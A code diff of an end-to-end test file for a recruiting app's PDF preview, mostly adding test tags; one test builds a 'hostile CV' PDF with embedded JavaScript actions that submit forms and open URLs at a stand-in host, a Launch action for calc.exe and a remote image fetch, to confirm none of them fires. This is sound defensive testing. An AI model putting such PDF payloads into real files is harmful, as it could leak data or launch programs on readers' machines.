@@ -84,96 +84,101 @@ const hugePage = pdfOf([
   words('x'),
 ])
 
-test('unusual PDF files are shown: East Asian letters, scans, wrong offsets, huge pages, a wrong page count', async ({
-  page,
-  superadmin,
-}) => {
-  await openApplicant(page, superadmin, {
-    'letters.pdf': eastAsian,
-    'scan.pdf': scan,
-    'offsets.pdf': wrongOffsets,
-    'pages.pdf': thousandMillionPages,
-    'huge.pdf': hugePage,
-  })
-  await expect(previewOf(page, 'letters.pdf').getByText('日本語')).toBeVisible()
+test(
+  'unusual PDF files are shown: East Asian letters, scans, wrong offsets, huge pages, a wrong page count',
+  { tag: '@all' },
+  async ({ page, superadmin }) => {
+    await openApplicant(page, superadmin, {
+      'letters.pdf': eastAsian,
+      'scan.pdf': scan,
+      'offsets.pdf': wrongOffsets,
+      'pages.pdf': thousandMillionPages,
+      'huge.pdf': hugePage,
+    })
+    await expect(previewOf(page, 'letters.pdf').getByText('日本語')).toBeVisible()
 
-  const scanned = await show(page, 'scan.pdf')
-  await expect(scanned.getByText('A scan')).toBeVisible()
-  const colourAt = (height: number) =>
-    scanned.locator('canvas').evaluate((canvas, part) => {
-      if (!(canvas instanceof HTMLCanvasElement) || canvas.width === 0) return undefined
-      const { data } = canvas.getContext('2d')!.getImageData(canvas.width / 2, canvas.height * part, 1, 1)
-      return [...data]
-    }, height)
-  await expect.poll(() => colourAt(0.25)).toEqual([200, 30, 40, 255])
-  await expect.poll(() => colourAt(0.75)).toEqual([0, 0, 0, 255])
+    const scanned = await show(page, 'scan.pdf')
+    await expect(scanned.getByText('A scan')).toBeVisible()
+    const colourAt = (height: number) =>
+      scanned.locator('canvas').evaluate((canvas, part) => {
+        if (!(canvas instanceof HTMLCanvasElement) || canvas.width === 0) return undefined
+        const { data } = canvas.getContext('2d')!.getImageData(canvas.width / 2, canvas.height * part, 1, 1)
+        return [...data]
+      }, height)
+    await expect.poll(() => colourAt(0.25)).toEqual([200, 30, 40, 255])
+    await expect.poll(() => colourAt(0.75)).toEqual([0, 0, 0, 255])
 
-  await expect((await show(page, 'offsets.pdf')).getByText('Found again')).toBeVisible()
+    await expect((await show(page, 'offsets.pdf')).getByText('Found again')).toBeVisible()
 
-  const counted = await show(page, 'pages.pdf')
-  await expect(counted.getByText('The only one')).toBeVisible()
-  await expect(counted.getByText('Page 1 of 1')).toBeVisible()
+    const counted = await show(page, 'pages.pdf')
+    await expect(counted.getByText('The only one')).toBeVisible()
+    await expect(counted.getByText('Page 1 of 1')).toBeVisible()
 
-  const huge = await show(page, 'huge.pdf')
-  const canvas = huge.locator('canvas')
-  await expect.poll(() => canvas.evaluate(({ clientWidth }) => clientWidth)).toBeGreaterThan(100)
-  for (let press = 0; press < 3; press++) await huge.getByRole('button', { name: 'Zoom in' }).click()
-  await expect(huge.getByRole('status', { name: 'Zoom' })).toHaveText('130%')
-  const pixels = await canvas.evaluate((element) => {
-    const { width, height } = element as HTMLCanvasElement
-    return width * height
-  })
-  expect(pixels).toBeLessThanOrEqual(16_000_000)
+    const huge = await show(page, 'huge.pdf')
+    const canvas = huge.locator('canvas')
+    await expect.poll(() => canvas.evaluate(({ clientWidth }) => clientWidth)).toBeGreaterThan(100)
+    for (let press = 0; press < 3; press++) await huge.getByRole('button', { name: 'Zoom in' }).click()
+    await expect(huge.getByRole('status', { name: 'Zoom' })).toHaveText('130%')
+    const pixels = await canvas.evaluate((element) => {
+      const { width, height } = element as HTMLCanvasElement
+      return width * height
+    })
+    expect(pixels).toBeLessThanOrEqual(16_000_000)
 
-  // The worker that reads a file stops when its page closes.
-  expect(page.workers()).toHaveLength(1)
-  await page.getByRole('link', { name: 'Back to list' }).click()
-  await expectPath(page, '/applicants')
-  await expect.poll(() => page.workers().length).toBe(0)
-})
+    // The worker that reads a file stops when its page closes.
+    expect(page.workers()).toHaveLength(1)
+    await page.getByRole('link', { name: 'Back to list' }).click()
+    await expectPath(page, '/applicants')
+    await expect.poll(() => page.workers().length).toBe(0)
+  },
+)
 
-test('a hostile CV runs nothing and calls no other server', async ({ page, context, superadmin, baseURL }) => {
-  const asked = new Set<string>()
-  context.on('request', (request) => asked.add(new URL(request.url()).origin))
-  const happened: string[] = []
-  page.on('dialog', async (dialog) => {
-    happened.push(dialog.message())
-    await dialog.dismiss()
-  })
-  context.on('page', (opened) => happened.push(opened.url()))
-  page.on('download', () => happened.push('download'))
-  const elsewhere = 'http://elsewhere.example'
-  const script =
-    '(app.alert\\(1\\); this.submitForm\\("http://elsewhere.example/"\\); app.launchURL\\("http://elsewhere.example/"\\))'
-  const file = pdfOf([
-    `<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS ${script}/Next<</S/URI/URI(${elsewhere}/opened)>>>>/AA<</WC<</S/JavaScript/JS ${script}>>>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS ${script}>>]>>>>/AcroForm<</Fields[7 0 R]/XFA(<xdp><script>app.alert\\(2\\)</script></xdp>)>>>>`,
-    onePage,
-    helvetica,
-    sheetOf(
-      '5 0 R',
-      `/AA<</O<</S/JavaScript/JS ${script}>>>>/Annots[7 0 R<</Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(${elsewhere}/link)>>>><</Subtype/Link/Rect[0 0 595 842]/A<</S/Launch/F(calc.exe)>>>><</Subtype/Link/Rect[0 0 595 842]/A<</S/SubmitForm/F(${elsewhere}/form)>>>>]`,
-    ),
-    words('Nothing happens here'),
-    // An image to be fetched from another server.
-    `<</Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/F<</FS/URL/F(${elsewhere}/picture)>>/Length 0>>stream\n\nendstream`,
-    `<</Subtype/Widget/FT/Tx/T(name)/Rect[0 0 595 842]/AA<</E<</S/JavaScript/JS ${script}>>/F<</S/JavaScript/JS ${script}>>>>>>`,
-  ])
-  await openApplicant(page, superadmin, { 'cv.pdf': file })
-  const preview = previewOf(page, 'cv.pdf')
-  const line = preview.getByText('Nothing happens here')
-  await expect(line).toBeVisible()
-  await line.click()
-  await preview.locator('canvas').click({ position: { x: 40, y: 200 }, force: true })
-  await preview.getByRole('button', { name: 'Zoom in' }).click()
-  await expect(preview.getByRole('status', { name: 'Zoom' })).toHaveText('110%')
-  await expect(preview.getByRole('link')).toHaveCount(0)
-  await expect(preview.locator('input')).toHaveCount(0)
-  expect(happened).toEqual([])
-  expect([...asked].filter((origin) => origin !== baseURL && !origin.startsWith('blob:'))).toEqual([])
-  await expect(page).toHaveURL(/\/applicants\/profile/)
-})
+test(
+  'a hostile CV runs nothing and calls no other server',
+  { tag: '@all' },
+  async ({ page, context, superadmin, baseURL }) => {
+    const asked = new Set<string>()
+    context.on('request', (request) => asked.add(new URL(request.url()).origin))
+    const happened: string[] = []
+    page.on('dialog', async (dialog) => {
+      happened.push(dialog.message())
+      await dialog.dismiss()
+    })
+    context.on('page', (opened) => happened.push(opened.url()))
+    page.on('download', () => happened.push('download'))
+    const elsewhere = 'http://elsewhere.example'
+    const script =
+      '(app.alert\\(1\\); this.submitForm\\("http://elsewhere.example/"\\); app.launchURL\\("http://elsewhere.example/"\\))'
+    const file = pdfOf([
+      `<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS ${script}/Next<</S/URI/URI(${elsewhere}/opened)>>>>/AA<</WC<</S/JavaScript/JS ${script}>>>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS ${script}>>]>>>>/AcroForm<</Fields[7 0 R]/XFA(<xdp><script>app.alert\\(2\\)</script></xdp>)>>>>`,
+      onePage,
+      helvetica,
+      sheetOf(
+        '5 0 R',
+        `/AA<</O<</S/JavaScript/JS ${script}>>>>/Annots[7 0 R<</Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(${elsewhere}/link)>>>><</Subtype/Link/Rect[0 0 595 842]/A<</S/Launch/F(calc.exe)>>>><</Subtype/Link/Rect[0 0 595 842]/A<</S/SubmitForm/F(${elsewhere}/form)>>>>]`,
+      ),
+      words('Nothing happens here'),
+      // An image to be fetched from another server.
+      `<</Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/F<</FS/URL/F(${elsewhere}/picture)>>/Length 0>>stream\n\nendstream`,
+      `<</Subtype/Widget/FT/Tx/T(name)/Rect[0 0 595 842]/AA<</E<</S/JavaScript/JS ${script}>>/F<</S/JavaScript/JS ${script}>>>>>>`,
+    ])
+    await openApplicant(page, superadmin, { 'cv.pdf': file })
+    const preview = previewOf(page, 'cv.pdf')
+    const line = preview.getByText('Nothing happens here')
+    await expect(line).toBeVisible()
+    await line.click()
+    await preview.locator('canvas').click({ position: { x: 40, y: 200 }, force: true })
+    await preview.getByRole('button', { name: 'Zoom in' }).click()
+    await expect(preview.getByRole('status', { name: 'Zoom' })).toHaveText('110%')
+    await expect(preview.getByRole('link')).toHaveCount(0)
+    await expect(preview.locator('input')).toHaveCount(0)
+    expect(happened).toEqual([])
+    expect([...asked].filter((origin) => origin !== baseURL && !origin.startsWith('blob:'))).toEqual([])
+    await expect(page).toHaveURL(/\/applicants\/profile/)
+  },
+)
 
-test('files that cannot be shown say so, and can be downloaded', async ({ page, superadmin }) => {
+test('files that cannot be shown say so, and can be downloaded', { tag: '@all' }, async ({ page, superadmin }) => {
   const files = {
     // A first line without a document.
     'script.pdf': Buffer.from('%PDF-1.4\n<script>alert(1)</script>'),
